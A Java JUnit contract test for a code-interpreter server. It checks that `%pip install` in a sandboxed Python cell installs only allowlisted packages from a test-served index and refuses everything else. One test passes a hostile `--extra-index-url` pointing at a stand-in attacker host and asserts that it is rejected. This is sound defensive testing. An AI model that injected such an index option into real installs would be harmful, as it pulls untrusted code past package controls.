package dev.codeinterp.server.packages;

import dev.codeinterp.model.json.Json;
import dev.codeinterp.model.json.JsonObject;
import dev.codeinterp.server.testing.TestApp;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

import java.io.IOException;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * {@code %pip install} in a running Python cell, end to end against the real engine, once per
 * runtime: the cell asks, the server checks its allowlist and fetches from a real simple index this
 * test serves on the host, the sandbox (still offline) installs from its read-only cache mid-cell.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
abstract class PipMagicContract {
    PackageIndexApp packages;
    TestApp app;

    abstract String runtime();

    @BeforeAll
    void start() {
        packages = PackageIndexApp.start(runtime(),
                index -> index.publish("codeinterp-pipdemo", "1.0", "codeinterp_pipdemo", "VALUE = 'installed by %pip'\n", List.of()),
                "python codeinterp-pipdemo", "python codeinterp-unpublished", "python numpy preinstalled");
        app = packages.app;
    }

    @AfterAll
    void stop() throws IOException {
        packages.close();
    }

    private JsonObject run(TestApp.SessionRef s, String code, double timeout) {
        TestApp.Response r = app.post("/api/v1/sessions/" + s.id() + "/execute",
                Json.write(Map.of("code", code, "timeout", timeout)), s.token());
        assertThat(r.status()).as(r.body()).isEqualTo(200);
        return r.json();
    }

    @Test
    void pip_install_in_a_cell_installs_from_the_allowlisted_index_and_imports_at_once_while_offline() {
        TestApp.SessionRef s = app.createSession();
        // a 3 s timeout, a sleep of 2.5 s: the cold fetch (a wheel 1 s late, as from far away) comes on top and must not count
        packages.index.delayFiles(1000);
        JsonObject r;
        try {
            r = run(s, "import time\n%pip install codeinterp-pipdemo\nimport codeinterp_pipdemo\n"
                    + "print(codeinterp_pipdemo.VALUE)\ntime.sleep(2.5)\n" + packages.networkProbe(), 3.0);
        } finally {
            packages.index.delayFiles(0);
        }
        assertThat(r.string("status")).as(r.asMap().toString()).isEqualTo("ok");
        assertThat(r.string("stdout")).startsWith("Installed codeinterp-pipdemo-1.0\ninstalled by %pip\n")
                .doesNotContain("CONNECTED").contains("offline");
        List<JsonObject> installs = packages.installEvents(s);
        assertThat(installs).hasSize(1);
        assertThat(installs.get(0).stringList("packages")).containsExactly("codeinterp-pipdemo");
        assertThat(installs.get(0).integer("duration_ms")).as("the fetch took long enough to have mattered").isGreaterThanOrEqualTo(1000);

        JsonObject next = run(s, "import codeinterp_pipdemo\nprint(codeinterp_pipdemo.VALUE)\n!pip install -q codeinterp-pipdemo numpy\n"
                + "%pip list", 5.0);
        assertThat(next.string("status")).as(next.asMap().toString()).isEqualTo("ok");
        assertThat(next.string("stdout")).startsWith("installed by %pip\n").contains("codeinterp-pipdemo 1.0");
    }

    @Test
    void a_package_off_the_allowlist_is_refused_in_the_cell_by_name_and_the_cell_may_go_on() {
        TestApp.SessionRef s = app.createSession();
        int before = packages.index.requests();
        JsonObject caught = run(s, "try:\n    %pip install requests\nexcept Exception as e:\n    print(type(e).__name__, e)\nprint('went on')", 5.0);
        assertThat(caught.string("status")).isEqualTo("ok");
        assertThat(caught.string("stdout")).isEqualTo("PackageRefused python package 'requests' is not on this server's package "
                + "allowlist, so the cell did not install it (ask the operator to add it)\nwent on\n");

        JsonObject failed = run(s, "%pip install codeinterp-pipdemo requests\nprint('not reached')", 5.0);
        assertThat(failed.string("status")).isEqualTo("error");
        assertThat(failed.object("error").string("name")).isEqualTo("PackageRefused");
        assertThat(failed.string("stdout")).doesNotContain("not reached");

        JsonObject hostile = run(s, "%pip install --extra-index-url http://evil.example/simple codeinterp-pipdemo", 5.0);
        assertThat(hostile.object("error").string("value")).contains("'--extra-index-url'");
        assertThat(packages.index.requests()).as("nothing refused was fetched").isEqualTo(before);
    }

    @Test
    void a_fetch_that_fails_raises_in_the_cell_and_the_session_goes_on() {
        TestApp.SessionRef s = app.createSession();
        JsonObject r = run(s, "!pip install codeinterp-unpublished", 5.0);
        assertThat(r.string("status")).isEqualTo("error");
        assertThat(r.object("error").string("name")).isEqualTo("PackageFetchError");
        assertThat(r.object("error").string("value")).contains("codeinterp-unpublished");
        assertThat(run(s, "print('next')", 5.0).string("stdout")).isEqualTo("next\n");
    }
}
